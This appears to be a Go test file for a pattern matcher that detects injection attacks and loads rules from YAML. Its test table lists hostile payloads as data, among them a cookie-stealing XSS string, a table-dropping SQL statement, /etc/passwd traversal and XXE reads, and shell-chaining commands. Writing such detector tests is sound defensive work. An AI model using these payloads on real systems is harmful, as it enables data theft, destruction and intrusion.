package security

import (
	"os"
	"path/filepath"
	"sync"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestMatcher_DetectsListedPayloads(t *testing.T) {
	m := MustNewMatcher(ExtendedRules())

	tests := []struct {
		name     string
		input    string
		category Category
	}{
		{"classic tautology", "' OR '1'='1", CategorySQLInjection},
		{"numeric tautology", "admin' or 1=1 --", CategorySQLInjection},
		{"union select", "1 UNION ALL SELECT username, password FROM users", CategorySQLInjection},
		{"stacked drop", "1; DROP TABLE invoices", CategorySQLInjection},
		{"comment terminator", "admin'--", CategorySQLInjection},
		{"time based", "1 AND SLEEP(5)", CategorySQLInjection},
		{"mssql delay", "'; WAITFOR DELAY '0:0:5'", CategorySQLInjection},
		{"schema probe", "select * from information_schema.tables", CategorySQLInjection},
		{"script tag", "<script>alert(1)</script>", CategoryXSS},
		{"script tag mixed case", "<ScRiPt src=//evil>", CategoryXSS},
		{"javascript uri", "javascript:alert(document.domain)", CategoryXSS},
		{"event handler", `<img src=x onerror=alert(1)>`, CategoryXSS},
		{"iframe", "<iframe src=//evil.example>", CategoryXSS},
		{"cookie theft", "new Image().src='//x/?c='+document.cookie", CategoryXSS},
		{"dot dot slash", "../../etc/passwd", CategoryPathTraversal},
		{"windows traversal", `..\..\boot.ini`, CategoryPathTraversal},
		{"encoded traversal", "%2e%2e%2fconfig", CategoryPathTraversal},
		{"null byte", "report.pdf%00.php", CategoryPathTraversal},
		{"shell chain", "8.8.8.8; cat /etc/hosts", CategoryCommandInjection},
		{"pipe", "x | whoami", CategoryCommandInjection},
		{"subshell", "$(id)", CategoryCommandInjection},
		{"backticks", "`uname -a`", CategoryCommandInjection},
		{"ldap wildcard", "*)(uid=*", CategoryLDAPInjection},
		{"ldap or filter", "(|(cn=*)", CategoryLDAPInjection},
		{"xxe doctype", `<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>`, CategoryXMLInjection},
		{"cdata", "<![CDATA[<script>]]>", CategoryXMLInjection},
		{"mongo ne", `{"username": {"$ne": null}}`, CategoryNoSQLInjection},
		{"mongo where", `{"$where": "sleep(100)"}`, CategoryNoSQLInjection},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := m.Match(tt.input)
			assert.Contains(t, got, tt.category, "input %q", tt.input)
		})
	}
}

func TestMatcher_BenignInput(t *testing.T) {
	m := MustNewMatcher(ExtendedRules())

	benign := []string{
		"hello world",
		"John O'Brien",
		"price is $100",
		"user@example.com",
		"2024-01-01",
		"Select your preferred option",
		"invoice #42 for ACME Ltd.",
		"Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
		"/accounts/receivable?page=2",
	}
	for _, s := range benign {
		assert.Empty(t, m.Match(s), "input %q", s)
	}
}

func TestMatcher_EmptyNeverMatches(t *testing.T) {
	m := MustNewMatcher(RuleTable{"catch_all": {`.*`}})
	assert.Nil(t, m.Match(""))
	assert.Nil(t, m.MatchAll([]string{"", ""}))
	assert.Equal(t, []Category{"catch_all"}, m.Match("x"))
}

func TestMatcher_DefaultRulesScope(t *testing.T) {
	m := MustNewMatcher(DefaultRules())
	assert.Equal(t, []Category{CategoryPathTraversal, CategorySQLInjection, CategoryXSS}, m.Categories())
	assert.Empty(t, m.Match("$(id)"), "command injection is only in the extended table")
}

func TestMatcher_MultipleCategoriesSorted(t *testing.T) {
	m := MustNewMatcher(DefaultRules())
	got := m.Match("../../x<script>' OR '1'='1")
	assert.Equal(t, []Category{CategoryPathTraversal, CategorySQLInjection, CategoryXSS}, got)
}

func TestMatcher_MatchAllUnion(t *testing.T) {
	m := MustNewMatcher(DefaultRules())
	got := m.MatchAll([]string{"<script>", "fine", "../etc", "<script>again"})
	assert.Equal(t, []Category{CategoryPathTraversal, CategoryXSS}, got)
}

func TestNewMatcher_InvalidPattern(t *testing.T) {
	_, err := NewMatcher(RuleTable{CategoryXSS: {`(unclosed`}})
	require.Error(t, err)
	assert.Contains(t, err.Error(), "xss")
	assert.Contains(t, err.Error(), "(unclosed")
}

func TestMatcher_Replace(t *testing.T) {
	m := MustNewMatcher(RuleTable{"a": {"alpha"}})
	gen := m.Generation()

	require.NoError(t, m.Replace(RuleTable{"b": {"beta"}}))
	assert.Greater(t, m.Generation(), gen)
	assert.Empty(t, m.Match("alpha"))
	assert.Equal(t, []Category{"b"}, m.Match("beta"))

	gen = m.Generation()
	require.Error(t, m.Replace(RuleTable{"c": {"[bad"}}))
	assert.Equal(t, gen, m.Generation(), "failed replace must not bump the generation")
	assert.Equal(t, []Category{"b"}, m.Match("beta"), "old table stays live")
}

func TestMatcher_ConcurrentReplace(t *testing.T) {
	m := MustNewMatcher(DefaultRules())
	var wg sync.WaitGroup
	for i := 0; i < 20; i++ {
		wg.Add(2)
		go func() {
			defer wg.Done()
			_ = m.Replace(ExtendedRules())
		}()
		go func() {
			defer wg.Done()
			assert.Contains(t, m.Match("<script>"), CategoryXSS)
		}()
	}
	wg.Wait()
}

func TestMergeRules(t *testing.T) {
	base := RuleTable{"a": {"x", "y"}}
	overlay := RuleTable{"a": {"y", "z"}, "b": {"w"}}

	got := MergeRules(base, overlay)
	assert.Equal(t, []string{"x", "y", "z"}, got["a"])
	assert.Equal(t, []string{"w"}, got["b"])
	assert.Equal(t, []string{"x", "y"}, base["a"], "inputs are not mutated")
}

func TestRuleTable_Clone(t *testing.T) {
	rt := DefaultRules()
	c := rt.Clone()
	c[CategoryXSS][0] = "changed"
	assert.NotEqual(t, "changed", rt[CategoryXSS][0])
}

func writeRulesFile(t *testing.T, content string) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "rules.yaml")
	require.NoError(t, os.WriteFile(path, []byte(content), 0o600))
	return path
}

func TestLoadRules(t *testing.T) {
	path := writeRulesFile(t, `
categories:
  sql_injection:
    - '\bhaving\s+\d+\s*=\s*\d+'
  template_injection:
    - '\{\{.*\}\}'
`)
	rf, err := LoadRules(path)
	require.NoError(t, err)
	assert.False(t, rf.ReplaceDefaults)

	m := MustNewMatcher(rf.Table(DefaultRules()))
	assert.Contains(t, m.Match("1 HAVING 1=1"), CategorySQLInjection)
	assert.Equal(t, []Category{"template_injection"}, m.Match("{{7*7}}"))
	assert.Contains(t, m.Match("<script>"), CategoryXSS, "defaults kept")
}

func TestLoadRules_ReplaceDefaults(t *testing.T) {
	path := writeRulesFile(t, `
replace_defaults: true
categories:
  xss:
    - '<blink>'
`)
	rf, err := LoadRules(path)
	require.NoError(t, err)

	m := MustNewMatcher(rf.Table(DefaultRules()))
	assert.Equal(t, []Category{CategoryXSS}, m.Categories())
	assert.Empty(t, m.Match("<script>"))
	assert.Equal(t, []Category{CategoryXSS}, m.Match("<BLINK>"))
}

func TestLoadRules_Errors(t *testing.T) {
	_, err := LoadRules(filepath.Join(t.TempDir(), "missing.yaml"))
	assert.Error(t, err)

	_, err = LoadRules(writeRulesFile(t, "categories: [not, a, map]"))
	assert.Error(t, err)

	_, err = LoadRules(writeRulesFile(t, "categories:\n  Bad-Name:\n    - x\n"))
	assert.ErrorContains(t, err, "invalid category name")
}
